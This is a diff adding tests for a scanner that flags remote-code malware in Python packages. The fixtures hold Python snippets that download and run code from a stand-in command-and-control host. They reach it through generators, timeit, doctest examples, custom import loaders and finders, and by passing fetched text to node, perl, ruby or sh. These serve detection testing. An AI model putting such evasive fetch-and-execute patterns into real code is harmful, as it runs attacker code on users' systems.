@@ -73,3 +73,130 @@ test('a response that passes through a module of its own, compile and builtins i
     { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 4 },
   ]);
 });
+
+test.each([
+  [
+    'a generator that is sent it',
+    'def stages():',
+    '    text = yield',
+    '    exec(text)',
+    '    yield',
+    'runner = stages()',
+    'next(runner)',
+    "runner.send(urlopen('https://c2.tools.invalid/g').read())",
+  ],
+  [
+    'timeit',
+    'import timeit',
+    'timeit.timeit("exec(urlopen(\'https://c2.tools.invalid/y\').read())", setup="from urllib.request import urlopen")',
+  ],
+  [
+    'the examples of a docstring',
+    'import doctest',
+    'def sample():',
+    '    """',
+    '    >>> from urllib.request import urlopen',
+    '    >>> exec(urlopen("https://c2.tools.invalid/d").read())',
+    '    """',
+    'doctest.run_docstring_examples(sample, {})',
+  ],
+  [
+    'a loader that gives it as source',
+    'import importlib.abc, importlib.util',
+    'class Remote(importlib.abc.SourceLoader):',
+    '    def get_filename(self, name):',
+    "        return 'https://c2.tools.invalid/' + name",
+    '    def get_data(self, path):',
+    '        return urlopen(path).read()',
+    'loader = Remote()',
+    "module = importlib.util.module_from_spec(importlib.util.spec_from_loader('kernel', loader))",
+    'loader.exec_module(module)',
+  ],
+  [
+    'a finder that every import asks',
+    'import sys, importlib.util',
+    'class Loader:',
+    '    def exec_module(self, module):',
+    "        exec(urlopen('https://c2.tools.invalid/m').read(), module.__dict__)",
+    'class Finder:',
+    '    def find_spec(self, name, path, target=None):',
+    '        return importlib.util.spec_from_loader(name, Loader())',
+    'sys.meta_path.append(Finder())',
+  ],
+])('a response that runs by way of %s is malware', async (_how, ...lines) => {
+  const file = wheel({ 'pkg/__init__.py': python('from urllib.request import urlopen', ...lines) });
+
+  const [finding] = await inspect('remote-code', file);
+
+  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import' });
+});
+
+test.each(['node', 'perl', 'ruby', 'sh'])('a response handed to %s as its program is malware', async (program) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import shutil, subprocess',
+      'from urllib.request import urlopen',
+      `tool = shutil.which('${program}')`,
+      "text = urlopen('https://c2.tools.invalid/core').read().decode()",
+      `subprocess.Popen([tool, '${program === 'sh' ? '-c' : '-e'}', text])`,
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
+});
+
+test('timers, examples, import hooks and coroutines of honest code stay silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import doctest, importlib.abc, importlib.machinery, importlib.util, sys, timeit, zipimport',
+      'from urllib.request import urlopen',
+      '',
+      'class Loader(importlib.abc.Loader):',
+      '    def __init__(self, loader):',
+      '        self.loader = loader',
+      '    def create_module(self, spec):',
+      '        return self.loader.create_module(spec)',
+      '    def exec_module(self, module):',
+      '        self.loader.exec_module(module)',
+      '        module.__annotations__ = {}',
+      '',
+      'class Finder(importlib.abc.MetaPathFinder):',
+      '    def find_spec(self, name, path, target=None):',
+      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
+      "        if spec is not None and name.startswith('pkg_plugins'):",
+      '            spec.loader = Loader(spec.loader)',
+      '        return spec',
+      '',
+      'sys.meta_path.insert(0, Finder())',
+      '',
+      'def fetch(url):',
+      '    """Text of a page.',
+      '',
+      "    >>> fetch('https://pages.tools.example/')[:5]",
+      "    '<html'",
+      '    """',
+      '    return urlopen(url).read().decode()',
+      '',
+      'def plugins(path):',
+      '    return zipimport.zipimporter(path).load_module("plugins")',
+      '',
+      'def averages():',
+      '    total, count = 0, 0',
+      '    while True:',
+      '        value = yield total / max(count, 1)',
+      '        total, count = total + len(value), count + 1',
+      '',
+      'running = averages()',
+      'next(running)',
+      "running.send('first')",
+      '',
+      'def speed():',
+      '    return timeit.timeit("sorted(data)", setup="data = list(range(100))", number=10)',
+      '',
+      "if __name__ == '__main__':",
+      '    doctest.testmod()',
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toEqual([]);
+});
